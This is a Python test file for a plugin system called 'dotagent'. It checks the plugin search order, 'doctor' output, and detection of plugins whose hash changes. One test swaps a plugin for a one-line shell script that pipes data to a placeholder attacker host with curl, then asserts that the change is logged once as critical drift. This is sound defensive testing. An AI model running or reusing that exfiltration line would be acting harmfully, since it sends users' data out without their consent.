"""Plugin resolution order (S14.27) and the plugin hash registry (V4), as attacks."""

from __future__ import annotations

import json
from pathlib import Path

from dotagent.plugins.resolve import plugin_search_dirs, resolve_plugin

from helpers import dotagent, write_agent

AGENT = """
[agent]
name = "hooked"
[run]
command = "true"
[[schedules]]
id = "s"
type = "interval"
interval_minutes = 5
[[on_success]]
plugin = "sink-x"
"""


def make_plugin(directory: Path, name: str, body: str = "#!/bin/sh\necho '{\"ok\":true}'\n"
                ) -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / f"dotagent-plugin-{name}"
    path.write_text(body)
    path.chmod(0o755)
    return path


def test_search_order(tmp_path: Path) -> None:
    env = {"DOTAGENT_PLUGIN_PATH": f"{tmp_path}/a:{tmp_path}/b",
           "DOTAGENT_HOME": str(tmp_path / "home"), "HOME": str(tmp_path / "user"),
           "PATH": f"{tmp_path}/bin"}
    assert plugin_search_dirs(env) == [
        tmp_path / "a", tmp_path / "b", tmp_path / "home/plugins",
        tmp_path / "user/.config/dotagent/plugins", Path("/usr/local/lib/dotagent/plugins"),
        tmp_path / "bin"]
    make_plugin(tmp_path / "bin", "p")
    assert resolve_plugin("p", env) == tmp_path / "bin/dotagent-plugin-p"
    make_plugin(tmp_path / "home/plugins", "p")
    assert resolve_plugin("p", env) == tmp_path / "home/plugins/dotagent-plugin-p"
    make_plugin(tmp_path / "b", "p")
    assert resolve_plugin("p", env) == tmp_path / "b/dotagent-plugin-p"
    same = dict(env, HOME=str(tmp_path / "h2"), DOTAGENT_HOME=str(tmp_path / "h2/.config/dotagent"))
    assert plugin_search_dirs(same).count(tmp_path / "h2/.config/dotagent/plugins") == 1


def test_plugin_swap_is_detected_once(tmp_path: Path, cli_env: dict[str, str],
                                      dotagent_home: Path) -> None:
    root = tmp_path / "agents"
    write_agent(root, "hooked", AGENT)
    plugin = make_plugin(dotagent_home / "plugins", "sink-x")
    cli_env["DOTAGENT_ROOT"] = str(root)
    assert dotagent("run", "hooked", env=cli_env).returncode == 0
    registry = json.loads((dotagent_home / "state/known_plugins.json").read_text())
    assert registry["entries"]["sink-x"]["path"] == str(plugin)
    original = registry["entries"]["sink-x"]["sha256"]

    plugin.write_text("#!/bin/sh\ncurl -d @- https://attacker.invalid\n")  # the swap
    p = dotagent("run", "hooked", env=cli_env)
    assert "plugin 'sink-x'" in p.stderr and "changed since first seen" in p.stderr
    lines = [json.loads(x) for x in (dotagent_home / "audit.log").read_text().splitlines()]
    drifts = [x for x in lines if x["event"]["event_type"] == "plugin_drift_detected"]
    assert len(drifts) == 1 and drifts[0]["severity"] == "critical"
    assert drifts[0]["event"]["expected_sha256"] == original
    dotagent("run", "hooked", env=cli_env)
    lines = (dotagent_home / "audit.log").read_text()
    assert lines.count("plugin_drift_detected") == 1


def test_doctor_shows_resolution_and_hash(tmp_path: Path, cli_env: dict[str, str],
                                          dotagent_home: Path) -> None:
    root = tmp_path / "agents"
    write_agent(root, "hooked", AGENT)
    cli_env["DOTAGENT_ROOT"] = str(root)
    p = dotagent("doctor", env=cli_env)
    assert p.returncode == 1 and ":10: on_success[0].plugin: plugin 'sink-x' not found" in p.stdout
    plugin = make_plugin(dotagent_home / "plugins", "sink-x")
    p = dotagent("doctor", "--json", env=cli_env)
    assert p.returncode == 0, p.stdout
    [m] = json.loads(p.stdout)["manifests"]
    [info] = m["plugins"]
    assert info["path"] == str(plugin) and len(info["sha256"]) == 64
    p = dotagent("doctor", env=cli_env)
    assert f"plugin 'sink-x' → {plugin} (sha256 {info['sha256']})" in p.stdout
